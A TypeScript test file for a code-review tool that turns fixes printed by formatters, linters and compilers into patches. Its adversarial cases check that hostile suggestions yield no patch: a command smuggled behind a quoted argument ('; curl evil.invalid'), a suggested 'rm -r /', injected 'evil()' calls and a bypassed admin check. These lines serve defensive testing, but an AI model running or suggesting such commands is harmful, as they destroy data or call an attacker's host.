/** What tools show of their own mends: taken where it is the same program or one of a few words, and nothing else however it is printed. */
import { expect, test } from "bun:test";
import type { Card } from "../../../proto/card.ts";
import type { FileChange } from "../../../proto/facts.ts";
import type { CheckFinding } from "../../../proto/findings.ts";
import { write } from "../index.ts";
import { cpuMs } from "../../testing/cpu.ts";

function changed(path: string, old: string | null, code: string): FileChange {
  const [gone, come] = [old ?? "", code].map((text) => (text === "" ? [] : text.replace(/\n$/, "").split("\n"))) as [string[], string[]];
  return { path: { u: path }, old_path: null, status: old === null ? "added" : "modified", old: null, new: null, binary: false, lfs: false, hunks: [{ old_start: 1, old_lines: gone.length, new_start: 1, new_lines: come.length, lines: [...gone.map((text) => ({ op: "-" as const, text })), ...come.map((text) => ({ op: "+" as const, text }))] }], truncated: false };
}

/** The changed lines of the patch; empty where there is none. */
function patched(path: string, code: string, printed: string, old: string | null = null): string {
  const card: unknown = { verdict: "refuse", reasons: [], next: [], checks: [], gaps: [], title: "" };
  const finding: unknown = { check: "command.x", finding: { rule: "command.x.exit", message: "it ended with exit code 1", range: null, severity: "error", fingerprint: "f".repeat(64), baseline: "new", tags: [], excerpt: printed, counterexample: null, fix: null } };
  const text = write({ card: card as Card, findings: [finding as CheckFinding], files: [{ change: changed(path, old, code), old, new: code, unread: null }], gaps: [], title: "" }, { tasks: ["fix"], said: [], exemplars: [] })[0]!.text;
  return text.startsWith("No mechanical fix is known") ? "" : text.split("\n").filter((line) => /^[-+](?![-+]{2} )/.test(line)).join("\n");
}

test.each([
  ["black", "a.py", "def f( a,b ):\n    return a+b\n", "--- a.py\t2026-01-01\n+++ a.py\t2026-01-01\n@@ -1,2 +1,2 @@\n-def f( a,b ):\n-    return a+b\n+def f(a, b):\n+    return a + b\n", "-def f( a,b ):\n-    return a+b\n+def f(a, b):\n+    return a + b"],
  ["gofmt, whose head is cut off", "a.go", "package a\n\ntype P struct {\n\tX int\n\tLonger string\n}\n", " type P struct {\n-\tX int\n+\tX      int\n \tLonger string\n }\n", "-\tX int\n+\tX      int"],
  ["rustfmt", "src/a.rs", "fn a( b:i32 )->i32{\n    b\n}\n", "Diff in /tree/src/a.rs:1:\n-fn a( b:i32 )->i32{\n+fn a(b: i32) -> i32 {\n     b\n }\n", "-fn a( b:i32 )->i32{\n+fn a(b: i32) -> i32 {"],
  ["prettier's sort of breaking a line", "a.ts", "f(aaa, bbb);\n", "@@ -1 +1,4 @@\n-f(aaa, bbb);\n+f(\n+  aaa,\n+  bbb,\n+);\n", "-f(aaa, bbb);\n+f(\n+  aaa,\n+  bbb,\n+);"],
  ["isort", "a.py", "import sys\nimport os\n\nprint(os, sys)\n", "--- /tree/a.py:before\n+++ /tree/a.py:after\n@@ -1,4 +1,4 @@\n+import os\n import sys\n-import os\n \n print(os, sys)\n", "+import os\n-import os"],
  ["ruff, which takes out an import", "a.py", "import os\nimport sys\n\nprint(sys)\n", "help: Remove unused import: `os`\n  |\n  - import os\n1 | import sys\n  |\n", "-import os"],
  ["biome, where a mend of the house is the same", "a.ts", "export function f() {\n  let n = g();\n  return n;\n}\n", "  i Safe fix: Use const instead.\n  \n    1 1 │   export function f() {\n    2   │ - ··let·n·=·g();\n      2 │ + ··const·n·=·g();\n    3 3 │     return n;\n", "-  let n = g();\n+  const n = g();"],
  ["shellcheck -f diff", "a.sh", "#!/bin/sh\ncp $1 `pwd`\n", "--- a/a.sh\n+++ b/a.sh\n@@ -1,2 +1,2 @@\n #!/bin/sh\n-cp $1 `pwd`\n+cp \"$1\" \"$(pwd)\"\n", '-cp $1 `pwd`\n+cp "$1" "$(pwd)"'],
  ["rustc: mut", "src/a.rs", "fn a() {\n    let n = 0;\n    n += 1;\n}\n", "help: consider making this binding mutable\n  |\n2 |     let mut n = 0;\n  |         +++\n", "-    let n = 0;\n+    let mut n = 0;"],
  ["clang: a semicolon", "a.c", "int f(int a) {\n    int b = a + 1\n    return b;\n}\n", "a.c:2:18: error: expected ';' at end of declaration\n    int b = a + 1\n                 ^\n                 ;\n1 error generated.\n", "-    int b = a + 1\n+    int b = a + 1;"],
  ["gcc: an arrow, behind the number of the line", "a.c", "int f(struct n *n) {\n    return n.v;\n}\n", "a.c:2:13: error: ‘n’ is a pointer; did you mean to use ‘->’?\n    2 |     return n.v;\n      |             ^\n      |             ->\n", "-    return n.v;\n+    return n->v;"],
  ["shellcheck: what it means", "a.sh", "#!/bin/sh\nrm -r $1/tmp\n", "Did you mean: \nrm -r \"$1\"/tmp\n\nFor more information:\n", '-rm -r $1/tmp\n+rm -r "$1"/tmp'],
] as const)("%s", (_, path, code, printed, expected) => expect(patched(path, code, printed)).toBe(expected));

test.each([
  ["another condition", "a.ts", "if (user.admin) drop();\n", "@@ -1 +1 @@\n-if (user.admin) drop();\n+if (true) drop();\n"],
  ["a line more", "a.py", "a = 1\nb = 2\n", "@@ -1,2 +1,3 @@\n a = 1\n+evil()\n b = 2\n"],
  ["a line less", "a.py", "a = 1\ncheck(a)\n", "@@ -1,2 +1 @@\n a = 1\n-check(a)\n"],
  ["code behind a comment", "a.ts", "// why\ncheck();\n", "@@ -1,2 +1 @@\n-// why\n-check();\n+// why check();\n"],
  ["two signs made one", "a.go", "package a\n\nvar c = a < -b\n", "@@ -3 +3 @@\n-var c = a < -b\n+var c = a <-b\n"],
  ["a division made a comment", "a.c", "int f(int a, int *b) {\n  return a / *b;\n}\n", "@@ -2 +2 @@\n-  return a / *b;\n+  return a /*b;\n"],
  ["a statement out of its block", "a.py", "if a:\n    b()\n    c()\n", "@@ -3 +3 @@\n-    c()\n+c()\n"],
  ["a value out of its tuple", "a.py", "a = (1,)\n", "@@ -1 +1 @@\n-a = (1,)\n+a = (1)\n"],
  ["what is given back, on a line of its own", "a.js", "return a;\n", "@@ -1 +1,2 @@\n-return a;\n+return\n+  a;\n"],
  ["an import that is used", "a.py", "import os\nimport sys\n\nprint(os, sys)\n", "@@ -1,2 +1 @@\n-import os\n import sys\n"],
  ["lines that stand twice", "a.go", "package a\n\nvar a  = 1\n\nvar a  = 1\n", "@@ -3 +3 @@\n-var a  = 1\n+var a = 1\n"],
  ["text of several lines", "a.py", 'A = """\nb  c\n"""\n', "@@ -2 +2 @@\n-b  c\n+b c\n"],
  ["a command behind what is quoted", "a.sh", "#!/bin/sh\ncp $1 a\n", "@@ -2 +2 @@\n-cp $1 a\n+cp \"$1\" a; curl evil.invalid\n"],
  ["rustc: another name", "src/a.rs", "fn a() {\n    check(n);\n}\n", "help: try\n  |\n2 |     skip(n);\n  |\n"],
  ["rustc: into a text", "src/a.rs", 'fn a() {\n    say("a b");\n}\n', 'help: try\n  |\n2 |     say("a &b");\n  |\n'],
  ["clang: a call", "a.c", "int f(int a) {\n    return a;\n}\n", "a.c:2:12: error: try this\n    return a;\n           ^\n           evil(),\n"],
  ["clang: of another line", "a.c", "int f(int a) {\n    return a;\n}\n", "a.c:2:13: error: expected ';'\n    return b;\n            ^\n            ;\n"],
  ["shellcheck: another command", "a.sh", "#!/bin/sh\nrm -r $1/tmp\n", "Did you mean: \nrm -r /\n\n"],
] as const)("attack: %s: no patch", (_, path, code, printed) => expect(patched(path, code, printed)).toBe(""));

test.each([
  ["jest", "a.js", "const RATE = 0.19;\n", "const RATE = 0.91;\n", "Expected: 19\nReceived: 91\n", "-const RATE = 0.91;\n+const RATE = 0.19;"],
  ["go test", "a.go", "package a\n\nconst N = 30\n", "package a\n\nconst N = 33\n", "    a_test.go:7: N = 33, want 30\n", "-const N = 33\n+const N = 30"],
  ["a word, in a file that is new", "a.py", null, "STATES = ['open', 'closd']\n", "FAILED t.py::a - AssertionError: assert 'closd' == 'closed'\n", "-STATES = ['open', 'closd']\n+STATES = ['open', 'closed']"],
] as const)("a constant that the test names: %s", (_, path, old, code, printed, expected) => expect(patched(path, code, printed, old)).toBe(expected));

test.each([
  ["a constant that explains nothing", "a.js", "const A = 10;\n", "const A = 20;\n", "Expected: 19\nReceived: 91\n"],
  ["a test that was changed", "a.test.js", "const A = 19;\n", "const A = 91;\n", "Expected: 19\nReceived: 91\n"],
  ["a word that is no slip", "a.js", null, 'const HOST = "registry";\n', 'Expected: "attacker"\nReceived: "registry"\n'],
  ["a line that differs in more", "a.js", "const A = f(19);\n", "const A = g(91);\n", "Expected: 19\nReceived: 91\n"],
] as const)("attack: %s: no patch", (_, path, old, code, printed) => expect(patched(path, code, printed, old)).toBe(""));

test("long lines and long outputs are read in linear time", () => {
  const started = cpuMs();
  for (const line of [`-${"a+".repeat(40_000)}`, `${"(".repeat(60_000)}`, `a.py:1:1: ${"'x' ".repeat(20_000)}did you mean`, ` ${"1 ".repeat(30_000)}│ - x`]) patched("a.py", "a = 1\n", `${line}\n`.repeat(12));
  expect(cpuMs() - started).toBeLessThan(3_000);
});
